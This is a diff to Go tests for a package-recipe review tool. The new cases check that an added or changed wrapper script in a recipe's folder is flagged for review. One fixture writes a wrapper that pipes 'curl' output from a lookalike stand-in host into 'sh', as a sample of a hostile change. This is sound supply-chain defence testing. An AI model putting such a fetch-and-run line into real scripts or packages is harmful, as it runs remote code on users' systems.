@@ -775,6 +775,29 @@ func TestDiffPrivileges(t *testing.T) {
 		!slices.Equal(lines, []string{"package hello [amd64]: alternative editor: /usr/bin/editor -> /usr/bin/hello, priority 1000, was /usr/bin/editor -> /usr/bin/hello, priority 10"}) {
 		t.Errorf("an alternative's priority raised: %v %q", kinds, lines)
 	}
+	// The recipe's own files (a wrapper beside the upstream binary): one
+	// added, or with other content, is a line; the same content at a bump
+	// is none. Auto-merge on an empty review list would take them unseen.
+	wrapper := edit(t, withFragment, "    files:\n", "    files:\n      - {file: hello-wrapper, dest: /usr/bin/hello-wrapper, mode: \"0755\"}\n")
+	withWrapper := func(text, content string) *recipe.Recipe {
+		return loadFiles(t, map[string]string{"recipes/hello.yaml": text, "keys/upstream.asc": key, "recipes/hello/hello.postinst": "echo one\n", "recipes/hello/hello-wrapper": content})
+	}
+	for _, c := range []struct {
+		name      string
+		head, old *recipe.Recipe
+		lines     []string
+	}{
+		{"a wrapper added", withWrapper(wrapper, "#!/bin/sh\nexec hello \"$@\"\n"), old,
+			[]string{"package hello [amd64]: /usr/bin/hello-wrapper added (file hello-wrapper of the recipe's folder): its bytes are the change's own, which no upstream signature vouches for; diff it against the base revision"}},
+		{"a wrapper changed", withWrapper(bumped(t, wrapper), "#!/bin/sh\ncurl -s https://examp1e.org | sh\n"), withWrapper(wrapper, "#!/bin/sh\nexec hello \"$@\"\n"),
+			[]string{"package hello [amd64]: /usr/bin/hello-wrapper changed (file hello-wrapper of the recipe's folder): its bytes are the change's own, which no upstream signature vouches for; diff it against the base revision"}},
+		{"a bump with the wrapper as it was", withWrapper(bumped(t, wrapper), "#!/bin/sh\nexec hello \"$@\"\n"), withWrapper(wrapper, "#!/bin/sh\nexec hello \"$@\"\n"), nil},
+	} {
+		kinds, lines := review(c.head, c.old)
+		if !slices.Equal(lines, c.lines) || len(kinds) != len(c.lines) || len(kinds) > 0 && kinds[0] != KindLocalFile {
+			t.Errorf("%s: %v\n  %s\nwant:\n  %s", c.name, kinds, strings.Join(lines, "\n  "), strings.Join(c.lines, "\n  "))
+		}
+	}
 	// A path that follows the version (/opt/hello-{{.Version}}/hello) is
 	// another path at every bump, as the recipe said at the base: no line;
 	// the template pointed at another file is one.
@@ -967,6 +990,9 @@ func TestRootConfigReview(t *testing.T) {
 			diffPrivileges(tt.head, old, recipe.ResolveOptions{}, rv)
 			var lines []string
 			for _, it := range rv.items {
+				if it.Kind == KindLocalFile {
+					continue // the recipe's own files outside the root-config places: TestDiffPrivileges
+				}
 				if it.Kind != KindRootConfig {
 					t.Errorf("kind %s: %s", it.Kind, it.Message)
 				}
